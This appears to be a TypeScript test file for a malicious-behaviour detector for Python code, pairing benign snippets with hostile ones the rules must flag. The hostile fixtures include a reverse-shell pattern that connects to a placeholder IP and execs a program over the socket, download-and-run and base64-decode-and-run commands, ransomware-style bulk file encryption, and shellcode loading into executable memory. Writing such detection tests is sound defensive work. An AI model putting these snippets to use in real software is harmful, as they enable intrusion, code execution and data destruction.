import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { analyse } from '../../helpers/behaviour.ts';
import { finds, silent } from '../../helpers/rules.ts';

const test = suite('what applications do and attacks too');

test('processes end, and volumes of an own driver go: only clouds lose resources', () => {
  silent(
    'PYS-DESTR-008',
    'import subprocess\np = subprocess.Popen(["x"])\np.terminate()',
    'class Worker:\n    def stop(self):\n        self.process.terminate()',
    'class Driver(base.Driver):\n    def clean(self, volume):\n        self.array.delete_volume(volume)\n        super().delete_snapshot(volume)',
    'from keystone import api\napi.resource.delete_domain("d")',
  );
  finds(
    'PYS-DESTR-008',
    'import boto3\nec2 = boto3.resource("ec2")\nec2.instances.filter(Filters=f).terminate()',
    'import boto3\ndef drop(client):\n    client.delete_volume(VolumeId="v")',
    'from azure.mgmt.network import NetworkManagementClient\nc = NetworkManagementClient(a, b)\nc.flow_logs.begin_delete("g", "n")',
  );
});

test('groups of an own directory are no rights on this machine or cloud', () => {
  silent('PYS-PRIV-008', 'def fill(identity_api):\n    identity_api.add_user_to_group(user, group)');
  finds(
    'PYS-PRIV-008',
    'import boto3\nboto3.client("iam").add_user_to_group(GroupName="admins", UserName="x")',
    'def grant(iam):\n    iam.add_user_to_group(GroupName="admins", UserName="x")',
    'import win32net\nwin32net.NetUserAdd(None, 1, info)',
  );
});

test('much is verified besides certificates', () => {
  silent(
    'PYS-PRIV-002',
    'draw_and_check("kcc", edges, verify=False)',
    'item.upload_file("a.tar", verify=False)',
  );
  finds(
    'PYS-PRIV-002',
    'class C:\n    def f(self):\n        self.session.request("GET", u, verify=False)',
    'import hvac\nhvac.Client(url=u, verify=False)',
    'ApiClient(base_url=u, verify=False)',
  );
});

test('a pair of sockets ties to a child on the same machine', () => {
  const tied = 'os.dup2(a.fileno(), 0)\nos.dup2(a.fileno(), 1)\nos.execv("/usr/bin/ssh", args)';
  silent('PYS-NET-008', `import os, socket\na, b = socket.socketpair()\n${tied}`);
  finds('PYS-NET-008', `import os, socket\na = socket.socket()\na.connect(("203.0.113.9", 44))\n${tied}`);
});

test('a download is data for most programs', () => {
  const fetched = 'import subprocess, urllib.request\nurllib.request.urlretrieve(url, image)\n';
  silent('PYS-NET-016', `${fetched}subprocess.check_call(["qemu-img", "resize", image, "+5G"])`);
  finds(
    'PYS-NET-016',
    `${fetched}subprocess.check_call([image, "--quiet"])`,
    `${fetched}subprocess.check_call(["msiexec.exe", "/i", image])`,
    `${fetched}subprocess.check_call(["/bin/bash", image])`,
  );
});

test('what is decoded is data for most programs', () => {
  const decoded = 'import base64, shutil, subprocess\nname = base64.b64decode(entry).decode()\n';
  silent(
    'PYS-OBF-008',
    `${decoded}subprocess.Popen(["getcert", "remove-ca", "-c", name]).wait()`,
    `${decoded}getcert = shutil.which("getcert")\nsubprocess.Popen([getcert, "remove-ca", "-c", name]).wait()`,
  );
  finds(
    'PYS-OBF-008',
    `${decoded}subprocess.Popen([name, "x"])`,
    `${decoded}subprocess.run(["bash", "-c", name])`,
    `${decoded}subprocess.run(name, shell=True)`,
  );
});

test('only what was read from files is encrypted in bulk', () => {
  const walk = 'import os\nfor name in os.listdir(d):\n    ';
  silent(
    'PYS-DESTR-006',
    `${walk}os.remove(name)\ncipher.encrypt(challenge)`,
    `${walk}os.rename(name, new)\nclass Key:\n    def seal(self, msg):\n        return Pair.encrypt(self, msg)`,
  );
  finds(
    'PYS-DESTR-006',
    `${walk}data = f.encrypt(open(name, "rb").read())\n    open(name, "wb").write(data)`,
    `import pyAesCrypt\n${walk}pyAesCrypt.encryptFile(name, name + ".x", key)\n    os.remove(name)`,
  );
});

test('copying memory is no code in memory by itself', () => {
  silent('PYS-PRIV-011', 'import ctypes\nctypes.windll.kernel32.RtlMoveMemory(view, message, n)');
  finds(
    'PYS-PRIV-011',
    'import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, 9, 0x3000, 0x40)\nk.RtlMoveMemory(p, code, 9)',
  );
});

test('addresses that stand for any', () => {
  silent(
    'PYS-NET-005',
    'import socket\ns = socket.socket()\ns.connect(("1.2.3.4", 56))',
    'URLS = ["http://[2001:db8::192.0.2.1]/x", "http://[2001:0DB8::1]/x"]',
  );
  finds('PYS-NET-005', 'import requests\nrequests.get("http://185.199.108.12/x.bin")');
});

test('objects of windows and views are in no cloud', () => {
  silent(
    'PYS-DATA-015',
    'class Dialog:\n    def open(self):\n        self.builder.get_object("title")',
    'class View(DetailView):\n    def get(self, request):\n        return self.get_object(request, 5)',
  );
  finds(
    'PYS-DATA-015',
    'def read(client):\n    return client.get_object(Bucket="b", Key="k")',
    'import boto3\nboto3.client("s3").get_object(**where)',
  );
});

test('a text in the format of mail is no mailbox', () => {
  const severity = (text: string): readonly string[] =>
    analyse(text)
      .findings.filter(({ rule }) => rule === 'PYS-DATA-006')
      .map((finding) => finding.severity);
  assert.equal(severity('import email\nemail.message_from_file(open("PKG-INFO"))'), ['low']);
  assert.equal(severity('import imaplib\nimaplib.IMAP4_SSL("imap.corp.local")'), ['medium']);
});

test('flags of regions are no hidden text', () => {
  const hidden = String.fromCodePoint(0xe0067, 0xe0062, 0xe0065, 0xe006e, 0xe0067, 0xe007f);
  silent('PYS-OBF-004', `FLAGS = {"england": "${String.fromCodePoint(0x1f3f4)}${hidden}"}`);
  finds('PYS-OBF-004', `note = "ok${hidden}"`);
});

test('libraries that are made for attacks', () => {
  finds(
    'PYS-PRIV-014',
    'from impacket.smbconnection import SMBConnection',
    'import pypykatz',
    'def go():\n    from pwn import remote',
  );
  silent(
    'PYS-PRIV-014',
    'import scapy.all\nimport ldap3\nimport paramiko',
    'import responder\nfrom .impacket import x',
  );
});

test.run();
